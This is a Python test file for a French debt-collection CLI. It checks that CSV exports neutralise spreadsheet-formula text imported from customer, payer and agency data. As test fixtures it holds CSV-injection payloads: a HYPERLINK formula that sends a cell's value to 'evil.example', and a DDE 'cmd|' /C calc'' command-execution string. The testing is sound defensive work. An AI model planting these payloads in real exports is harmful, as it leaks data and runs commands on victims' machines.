"""Listings tell the truth and hurt nobody: a ledger whose text came from outside (customer
files, payer names written by whoever sends money) listed as CSV, JSON and tables.

Every listing that offers CSV is run here on the same hostile ledger; a listing added later
without a place in `LISTINGS` fails `test_every_csv_listing_is_checked`.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from tests.conftest import write

from relance.adapters.storage.database import Store
from relance.core.users import Role
from relance.interfaces.cli import output
from relance.interfaces.cli.commands import all_commands
from relance.interfaces.cli.machine import csv_cell, neutralised
from relance.interfaces.cli.main import run
from relance.interfaces.cli.tables import show_table
from relance.services import api_tokens, users

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PAYER = "@SUM(1+1)*cmd|' /C calc'!A0"
ACCOUNT = "=1+1@example.fr"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# Each listing with --csv, with the arguments that make it list the hostile ledger.
LISTINGS: dict[str, list[str]] = {
    "customers": ["customers"],
    "invoices": ["invoices", "--as-of", "2026-03-15"],
    "aging": ["aging", "--as-of", "2026-03-15"],
    "run": ["run", "--date", "2026-04-30", "--dry-run"],
    "queue": ["queue", "--all"],
    "history": ["history", "+33CUST"],
    "unmatched": ["unmatched"],
    "rates list": ["rates", "list", "--since", "2026-01-01"],
    "proceedings list": ["proceedings", "list"],
    "risk": ["risk", "--as-of", "2026-03-20"],
    "advise": ["advise", "--as-of", "2026-03-20"],
    "user list": ["user", "list"],
    "token list": ["token", "list"],
    "kpi": ["kpi", "--from", "2026-01-01", "--to", "2026-03-31", "--as-of", "2026-03-31"],
    "agency list": ["agency", "list", "--as-of", "2026-04-10"],
    "routes": ["routes", "+33CUST", "--as-of", "2026-04-10"],
    "agency report": ["agency", "report", "--to", "2026-05-31"],
    "webhook list": ["webhook", "list"],
    "webhook deliveries": ["webhook", "deliveries"],
}
# Listings with no free text a user typed (figures; ids, event names and URLs): nothing of the
# ledger to neutralise, and none of their cells may look like a formula.
FIGURES_ONLY = {"kpi", "webhook deliveries"}


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> str:
    """A ledger whose customer, invoice and payer texts are spreadsheet formulas."""
    return hostile_ledger(store, tmp_path)


def hostile_ledger(store: Store, tmp_path: Path) -> str:
    """Fill `store` with customers, invoices, payers, an agency… named by formulas; its URL."""
    db = store.engine.url.render_as_string(hide_password=False)
    assert run(["init", "--db", db, "--name", "Plomberie Martin", "--iban",
                "FR76 3000 6000 0112 3456 7890 189", "--email", "compta@martin.fr"]) == 0  # fmt: skip
    customers = write(
        tmp_path / "c.csv",
        "ref;name;kind;country;email\n"
        f'+33CUST;"{FORMULA.replace(chr(34), chr(34) * 2)}";business;FR;a@example.fr\n'
        "-MINUS;\tTabbed SARL;business;FR;b@example.fr\n",
    )
    invoices = write(
        tmp_path / "i.csv",
        "numero;client;date;echeance;montant\n"
        "-F1;+33CUST;01/01/2026;31/01/2026;1 000,00\n"
        "@F2;-MINUS;01/03/2026;31/03/2026;200,00\n",
    )
    statement = write(
        tmp_path / "releve.csv",
        "Date;Libellé;Montant;Tiers;IBAN tiers;Référence structurée;Id\n"
        f"05/03/2026;=1+1;12,34;{PAYER};;;TX-1\n",
    )
    assert run(["import", "customers", str(customers), "--db", db]) == 0
    assert run(["import", "invoices", str(invoices), "--db", db]) == 0
    assert run(["import", "bank", str(statement), "--db", db, "--as-of", "2026-03-05"]) == 0
    # An endpoint described by a formula, subscribed before the run so its proposal is queued.
    assert run(["webhook", "add", "http://127.0.0.1:9/=1+1", "--events", "action.proposed",
                "--description", "=1+1", "--db", db]) == 0  # fmt: skip
    assert run(["run", "--db", db, "--date", "2026-03-15"]) == 0
    assert run(["hold", "+33CUST", "--reason", "=1+1", "--db", db, "--date", "2026-03-16"]) == 0
    assert run(["proceedings", "add", "+33CUST", "--kind", "insolvency", "--note", "=1+1",
                "--date", "2026-03-17", "--db", db]) == 0  # fmt: skip
    assert run(["rates", "add", "ecb_mro", "--from", "2027-01-01", "--to", "2027-06-30",
                "--rate", "2.40", "--source", PAYER, "--db", db]) == 0  # fmt: skip
    # A workbench login is an e-mail address, and "=" and "+" are letters of one (RFC 5322).
    users.add_user(store, ACCOUNT, Role.VIEWER, "correct horse battery staple")
    api_tokens.create_token(store, ACCOUNT, '=HYPERLINK("http://x")')  # its name a formula
    _hostile_agency(db, tmp_path)
    return db


def _hostile_agency(db: str, tmp_path: Path) -> None:
    """An agency named and reached by formulas, handed -MINUS's claim after its notice."""
    agencies = write(tmp_path / "agencies.toml", '[[agency]]\nname = "-MINUS Recouvrement"\n'
                     'siren = "732829320"\ncontact = "=1+1"\nfees = ["20"]\n'
                     'iban = "FR7630006000011234567890189"\n[agency.insurance]\n'
                     f'insurer = "{PAYER}"\npolicy = "@P1"\nvalid_until = 2027-01-01\n')  # fmt: skip
    assert run(["agency", "add", "--from", str(agencies), "--db", db]) == 0
    # +33CUST is insolvent: its claim stays out of agencies; -MINUS's goes (after "--", a
    # reference that starts with a dash is no option)
    for ref in ("+33CUST", "-MINUS"):
        assert run(["notice", "--date", "2026-04-01", "--db", db, "--", ref]) == 0
    # handed over after the day `run` lists, so that the run still proposes something
    assert run(["handoff", "--to", "agency", "--agency", "-MINUS Recouvrement", "--date",
                "2026-05-15", "--db", db, "--", "+33CUST"]) == 1  # fmt: skip
    assert run(["handoff", "--to", "agency", "--agency", "-MINUS Recouvrement", "--date",
                "2026-05-15", "--db", db, "--", "-MINUS"]) == 0  # fmt: skip


def csv_commands(commands: dict[str, Any], prefix: tuple[str, ...] = ()) -> set[str]:
    """Every command of the CLI that can print CSV (a --csv flag or a --format option)."""
    found = set()
    for name, command in commands.items():
        if hasattr(command, "commands"):  # a group of commands, such as `import`
            found |= csv_commands(command.commands, (*prefix, name))
        elif any({"--csv", "--format"} & set(p.opts) for p in command.params):
            found.add(" ".join((*prefix, name)))
    return found


def test_every_csv_listing_is_checked() -> None:
    assert csv_commands(all_commands()) == set(LISTINGS)


@pytest.mark.parametrize("listing", sorted(LISTINGS))
def test_no_csv_cell_is_a_formula_and_the_ledger_keeps_its_text(
    hostile: str, listing: str, capsys: pytest.CaptureFixture[str]
) -> None:
    args = [*LISTINGS[listing], "--db", hostile]
    capsys.readouterr()
    assert run([*args, "--format", "csv"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in table[1:] for cell in row]
    assert len(table) > 1, f"{listing} listed nothing: the test would prove nothing"
    dangerous = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert dangerous == []
    if listing in FIGURES_ONLY:
        return
    assert any(c.startswith("'") for c in cells)  # the hostile text is there, neutralised
    # JSON is for programs, not spreadsheets: the stored text comes out as it was.
    assert run([*args, "--format", "json"]) == 0
    text = capsys.readouterr().out
    json.loads(text)
    assert any(
        raw in text
        for raw in ("+33CUST", "-F1", "-MINUS", "=1+1", json.dumps(PAYER)[1:-1], ACCOUNT)
    )


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised() -> None:
    from decimal import Decimal

    assert [csv_cell(v) for v in (Decimal("-12.50"), -5, None, "-12.50", "=1+1")] == [
        "-12.50", "-5", "", "'-12.50", "'=1+1",
    ]  # fmt: skip
    assert neutralised("\rcmd") == "'\rcmd" and neutralised("Dupont") == "Dupont"


def test_days_overdue_agree_in_table_and_csv(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Negative before the due date, blank once paid, the same number in both."""
    db = store.engine.url.render_as_string(hide_password=False)
    assert run(["init", "--db", db, "--name", "Plomberie Martin"]) == 0
    write(tmp_path / "c.csv", "ref;name\nDUP;Dupont\n")
    write(tmp_path / "i.csv", "numero;client;date;echeance;montant\n"
          "LATE;DUP;01/01/2026;31/01/2026;100,00\nSOON;DUP;01/03/2026;25/03/2026;100,00\n"
          "PAID;DUP;01/01/2026;15/01/2026;50,00\n")  # fmt: skip
    write(tmp_path / "p.csv", "date;customer;amount;invoice\n10/01/2026;DUP;50,00;PAID\n")
    for kind, name in (("customers", "c"), ("invoices", "i"), ("payments", "p")):
        assert run(["import", kind, str(tmp_path / f"{name}.csv"), "--db", db]) == 0
    capsys.readouterr()
    assert run(["invoices", "--db", db, "--as-of", "2026-03-15", "--csv"]) == 0
    rows = {
        r["number"]: r["days_overdue"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))
    }
    assert rows == {"LATE": "43", "SOON": "-10", "PAID": ""}
    assert run(["invoices", "--db", db, "--as-of", "2026-03-15"]) == 0
    table = capsys.readouterr().out.splitlines()
    shown = {line.split()[0]: line.split()[-1] for line in table if line.startswith(tuple(rows))}
    assert shown == {"LATE": "43", "SOON": "-10", "PAID": "paid"}  # blank: the status is last


def test_references_are_never_cut_in_a_table() -> None:
    long_ref = "FAC-2026-000000123456789-AVOIR-COMPLEMENTAIRE"
    for terminal in (True, False):
        screen = Console(file=io.StringIO(), force_terminal=terminal, width=60)
        show_table(screen, ["number", "customer", "open"], [[long_ref, "[/]", "1 234,56 €"]],
                   title="Invoices", right=("open",))  # fmt: skip
        text = screen.file.getvalue()  # type: ignore[attr-defined]
        assert "…" not in text and "[/]" in text
        assert any(long_ref in line for line in text.splitlines())  # whole, on one line


def test_machine_output_never_goes_through_rich(
    hostile: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    rich_side = io.StringIO()
    monkeypatch.setattr(output.console.rich(), "_file", rich_side)  # what Rich would print
    capsys.readouterr()
    assert run(["aging", "--db", hostile, "--as-of", "2026-03-15", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert [c["customer"] for c in report["customers"]] == ["+33CUST", "-MINUS"]
    assert rich_side.getvalue() == ""


def test_rates_use_the_locale_decimal_mark() -> None:
    from decimal import Decimal

    assert output.rate_text(Decimal("12.15"), "fr") == "12,15\u00a0%"
    assert output.rate_text(Decimal("12.15"), "en") == "12.15 %"


def test_a_contract_rate_is_shown_with_the_ledger_language_decimal_mark(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = store.engine.url.render_as_string(hide_password=False)
    assert run(["init", "--db", db, "--name", "Plomberie Martin", "--language", "fr"]) == 0
    write(tmp_path / "c.csv", "ref;name\nDUP;Dupont SA\n")
    assert run(["import", "customers", str(tmp_path / "c.csv"), "--db", db]) == 0
    capsys.readouterr()
    assert run(["contract", "DUP", "--db", db, "--rate", "12,5"]) == 0
    assert "rate: 12,50\u00a0%" in capsys.readouterr().out
    assert run(["contract", "DUP", "--db", db, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rate"] == "12.5"  # programs get the number


def test_a_table_too_wide_for_the_terminal_is_written_whole_rather_than_cropped() -> None:
    columns = ["customer", "name", *(f"bucket {n}" for n in range(8)), "total"]
    row = ["AMELIAJO", "Amelia Jones", *["12 694,11 €"] * 8, "101 552,88 €"]
    screen = Console(file=io.StringIO(), force_terminal=True, width=70)
    show_table(screen, columns, [row], title="Aged balance", right=columns[2:])
    text = screen.file.getvalue()  # type: ignore[attr-defined]
    assert "101 552,88 €" in text and "bucket 7" in text  # the last column is there
